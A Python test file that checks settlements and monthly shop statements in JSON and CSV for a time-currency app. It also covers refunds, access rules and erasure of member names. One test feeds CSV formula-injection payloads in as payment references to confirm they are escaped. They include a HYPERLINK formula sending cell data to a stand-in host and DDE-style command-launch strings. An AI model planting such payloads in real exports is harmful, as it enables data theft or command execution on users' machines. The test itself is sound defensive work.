"""Settlement and the shop's monthly statement: what a shop keeper files, as JSON and CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

from tests.support.api import COMMUNITY, MEMBER_START_MINUTES, World, a_key, open_world
from tests.support.api_checks import problem
from tests.support.shop_payments import a_payment, another_shop_staff, balance

NOVEMBER = "2026-11"


async def refund(world: World, entry_id: str, minutes: int) -> None:
    answer = await world.post(
        "/api/v1/refunds", {"entry_id": entry_id, "amount_minutes": minutes}, as_=world.shop_staff
    )
    assert answer.status_code == 201, answer.text


async def settle(world: World, minutes: int | None = None, key: str | None = None) -> Any:
    body: dict[str, Any] = {"shop": world.shop}
    if minutes is not None:
        body["amount_minutes"] = minutes
    return await world.post("/api/v1/settlements", body, as_=world.admin, key=key)


async def a_month_of_trade(world: World) -> None:
    """Member 0 pays 120 and gets 30 back, member 1 pays 60, the community settles 100."""
    first = a_payment(world, 120, member=0, reference="code:123456")
    a_payment(world, 60, member=1, reference="card:crd_abcdefghijklmnop")
    await refund(world, first.id, 30)
    assert (await settle(world, 100)).status_code == 201


async def statement(world: World, period: str = NOVEMBER, **params: Any) -> dict[str, Any]:
    answer = await world.get(
        f"/api/v1/shops/{world.shop}/statement",
        as_=world.shop_staff,
        params={"period": period, **params},
    )
    assert answer.status_code == 200, answer.text
    body: dict[str, Any] = answer.json()
    return body


async def account_ids(world: World) -> list[str]:
    """Every account id that might leak: the shop's, the members', the community's."""
    community = await world.get(f"/api/v1/communities/{COMMUNITY}", as_=world.admin)
    members = [str(m.account) for m in world.members]
    return [world.shop, world.org, community.json()["community_account"], *members]


async def test_a_settlement_retires_the_shops_whole_balance(database_url: str) -> None:
    async with open_world(database_url) as world:
        a_payment(world, 90)
        a_payment(world, 30, member=1)
        key = a_key()

        settled = await settle(world, key=key)
        again = await settle(world, key=key)
        nothing = await settle(world)

        assert settled.status_code == 201, settled.text
        body = settled.json()
        assert (body["shop"], body["amount_minutes"]) == (world.shop, 120)
        assert again.json() == body
        assert problem(nothing, 422, "nothing_to_settle")["balance_minutes"] == 0
        assert await balance(world, world.shop) == 0
        assert await balance(world, body["community_account"]) == 120


async def test_a_settlement_may_be_part_of_the_balance_but_not_more(sqlite_url: str) -> None:
    async with open_world(sqlite_url) as world:
        a_payment(world, 90)

        part = await settle(world, 60)
        more = await settle(world, 31)
        not_a_shop = await world.post(
            "/api/v1/settlements", {"shop": world.members[0].account}, as_=world.admin
        )

        assert part.status_code == 201, part.text
        assert problem(more, 422, "exceeds_balance")["balance_minutes"] == 30
        problem(not_a_shop, 404, "shop_not_found")
        assert await balance(world, world.shop) == 30


async def test_the_statement_lists_the_months_movements_by_name_and_adds_up(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:
        await a_month_of_trade(world)
        checkpoint = (await world.get("/api/v1/ledger/checkpoint", as_=world.auditor)).json()

        body = await statement(world)

        rows = [(r["kind"], r["amount_minutes"], r["name"]) for r in body["rows"]]
        assert rows == [
            ("redemption", 120, "Member 0"),
            ("redemption", 60, "Member 1"),
            ("refund", -30, "Member 0"),
            ("settlement", -100, "Oost"),
        ]
        references = [r["reference"] for r in body["rows"]]
        assert references[:3] == ["code:123456", "card:crd_abcdefghijklmnop", "code:123456"]
        totals = {t["kind"]: (t["count"], t["amount_minutes"]) for t in body["totals"]}
        assert totals == {
            "redemption": (2, 180),
            "refund": (1, -30),
            "settlement": (1, -100),
            "settlement_correction": (0, 0),
        }
        assert (body["opening_balance_minutes"], body["closing_balance_minutes"]) == (0, 50)
        assert body["opening_balance_minutes"] + body["net_minutes"] == 50
        assert body["closing_balance_minutes"] == await balance(world, world.shop)
        assert body["shop_name"] == "Slagerij" and body["period"] == NOVEMBER
        assert body["checkpoint"]["note"] == checkpoint["note"]
        assert body["checkpoint"]["size"] == checkpoint["size"]
        text = str(body)
        for account in await account_ids(world):
            assert account not in text


async def test_a_statement_covers_its_month_only_and_months_chain(sqlite_url: str) -> None:
    async with open_world(sqlite_url) as world:
        await a_month_of_trade(world)
        world.clock.set(world.clock.now().replace(day=1, month=12) + timedelta(hours=1))
        december = a_payment(world, 45)

        november = await statement(world, NOVEMBER)
        body = await statement(world, "2026-12")

        assert [r["entry_id"] for r in body["rows"]] == [december.id]
        assert december.id not in str(november)
        assert november["closing_balance_minutes"] == 50
        assert body["opening_balance_minutes"] == november["closing_balance_minutes"]
        assert body["closing_balance_minutes"] == 95 == await balance(world, world.shop)


async def test_a_statement_from_the_same_checkpoint_is_the_same_statement(
    sqlite_url: str,
) -> None:
    async with open_world(sqlite_url) as world:
        await a_month_of_trade(world)
        first = await statement(world)

        a_payment(world, 15)
        later = await statement(world, checkpoint=first["checkpoint"]["size"])
        newest = await statement(world)

        assert later == first
        assert newest["closing_balance_minutes"] == first["closing_balance_minutes"] + 15
        assert newest["checkpoint"]["size"] > first["checkpoint"]["size"]


async def test_the_csv_statement_has_the_same_figures_in_minutes_and_words(
    sqlite_url: str,
) -> None:
    async with open_world(sqlite_url) as world:
        await a_month_of_trade(world)
        as_json = await statement(world)

        answer = await world.get(
            f"/api/v1/shops/{world.shop}/statement.csv",
            as_=world.shop_staff,
            params={"period": NOVEMBER, "language": "en"},
        )
        dutch = await world.get(
            f"/api/v1/shops/{world.shop}/statement.csv",
            as_=world.shop_staff,
            params={"period": NOVEMBER},
        )

        assert answer.status_code == 200, answer.text
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        records = list(csv.DictReader(io.StringIO(answer.text)))
        entries = [r for r in records if r["record"] == "entry"]
        assert [(r["kind"], r["amount_minutes"], r["amount"], r["name"]) for r in entries] == [
            ("redemption", "120", "2 hours", "Member 0"),
            ("redemption", "60", "1 hour", "Member 1"),
            ("refund", "-30", "\N{MINUS SIGN}\N{VULGAR FRACTION ONE HALF} hour", "Member 0"),
            ("settlement", "-100", "\N{MINUS SIGN}1 hour 40 minutes", "Oost"),
        ]
        by_record = {(r["record"], r["kind"]): r for r in records}
        assert by_record[("opening_balance", "")]["amount_minutes"] == "0"
        assert by_record[("closing_balance", "")]["amount_minutes"] == "50"
        assert by_record[("total", "redemption")]["amount_minutes"] == "180"
        checkpoint = by_record[("checkpoint", "")]
        assert checkpoint["seq"] == str(as_json["checkpoint"]["size"])
        assert checkpoint["reference"] == as_json["checkpoint"]["note"]
        assert "2 uur" in dutch.text and "1 uur en 40 minuten" in dutch.text
        for account in await account_ids(world):
            assert account not in answer.text


async def test_the_csv_statement_writes_references_a_spreadsheet_would_run_as_text(
    database_url: str,
) -> None:
    # A reference must be printable (a tab or carriage return is text_invalid), so these four
    # are what reaches one; the unit tests hold names to all six.
    formulas = [
        '=HYPERLINK("http://evil.example/?"&A2,"klik")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    async with open_world(database_url) as world:
        first, *_ = [a_payment(world, 60, reference=reference) for reference in formulas]
        a_payment(world, 45, member=1, reference="code:123456")
        await refund(world, first.id, 30)

        answer = await world.get(
            f"/api/v1/shops/{world.shop}/statement.csv",
            as_=world.shop_staff,
            params={"period": NOVEMBER, "language": "en"},
        )

        assert answer.status_code == 200, answer.text
        records = list(csv.DictReader(io.StringIO(answer.text)))
        entries = [r for r in records if r["record"] == "entry"]
        assert [(r["kind"], r["amount_minutes"], r["reference"], r["name"]) for r in entries] == [
            *(("redemption", "60", "'" + reference, "Member 0") for reference in formulas),
            ("redemption", "45", "code:123456", "Member 1"),
            ("refund", "-30", "'" + formulas[0], "Member 0"),
        ]
        closing = next(r for r in records if r["record"] == "closing_balance")
        assert closing["amount_minutes"] == str(4 * 60 + 45 - 30)


async def test_an_erased_members_name_is_gone_from_the_statement(sqlite_url: str) -> None:
    async with open_world(sqlite_url) as world:
        await a_month_of_trade(world)

        erased = await world.post(
            f"/api/v1/people/{world.members[1].person_id}/erase", as_=world.admin
        )
        body = await statement(world)

        assert erased.status_code in (200, 201), erased.text
        assert [r["name"] for r in body["rows"]] == ["Member 0", "", "Member 0", "Oost"]
        assert "Member 1" not in str(body)


async def test_shop_staff_read_only_their_own_shops_statement(sqlite_url: str) -> None:
    async with open_world(sqlite_url) as world:
        await a_month_of_trade(world)
        other_shop, other_staff = await another_shop_staff(world)
        path = f"/api/v1/shops/{world.shop}/statement"

        theirs = await world.get(path, as_=other_staff)
        own = await world.get(f"/api/v1/shops/{other_shop}/statement", as_=other_staff)
        auditor = await world.get(path, as_=world.auditor)
        admin = await world.get(f"{path}.csv", as_=world.admin)
        member = await world.get(path, as_=world.member)
        no_shop = await world.get(f"/api/v1/shops/{world.org}/statement", as_=world.auditor)
        future = await world.get(path, as_=world.auditor, params={"period": "2027-01"})

        problem(theirs, 403, "not_your_shop")
        assert own.status_code == 200 and own.json()["rows"] == []
        assert auditor.status_code == 200 and len(auditor.json()["rows"]) == 4
        assert admin.status_code == 200
        problem(member, 403, "forbidden")
        problem(no_shop, 404, "shop_not_found")
        problem(future, 422, "period_in_future")


async def test_a_shops_month_minutes_are_what_it_took_net_of_refunds(sqlite_url: str) -> None:
    async with open_world(sqlite_url) as world:
        await a_month_of_trade(world)

        november = await world.get(f"/api/v1/accounts/{world.shop}", as_=world.shop_staff)
        member = await world.get(f"/api/v1/accounts/{world.members[0].account}", as_=world.member)
        world.clock.set(world.clock.now().replace(day=1, month=12) + timedelta(hours=1))
        december = await world.get(f"/api/v1/accounts/{world.shop}", as_=world.shop_staff)

        assert november.json()["month"] == NOVEMBER
        assert november.json()["month_minutes"] == 120 + 60 - 30  # settlement not counted
        assert (december.json()["month"], december.json()["month_minutes"]) == ("2026-12", 0)
        assert member.json()["month_minutes"] == MEMBER_START_MINUTES  # members: as before


async def test_a_refund_made_just_before_is_in_the_statement(database_url: str) -> None:
    # Checkpoints are signed on a cadence: the refund's batch is not signed when the
    # statement is asked for, and the statement waits for the checkpoint that covers it.
    async with open_world(database_url, checkpoint_interval_seconds=0.3) as world:
        paid = a_payment(world, 120)
        await refund(world, paid.id, 30)

        body = await statement(world)

        rows = [(r["kind"], r["amount_minutes"]) for r in body["rows"]]
        assert rows == [("redemption", 120), ("refund", -30)]
        assert body["checkpoint"]["size"] == paid.seq + 2
